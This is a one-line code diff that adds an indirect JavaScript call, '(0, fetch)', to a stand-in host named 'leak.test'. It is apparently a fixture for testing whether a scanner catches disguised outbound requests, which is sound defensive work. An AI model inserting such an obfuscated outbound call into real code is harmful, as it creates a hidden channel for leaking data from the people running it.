@@ -1,0 +1,1 @@
+(0, fetch)("https://js-fetch-comma.leak.test/")
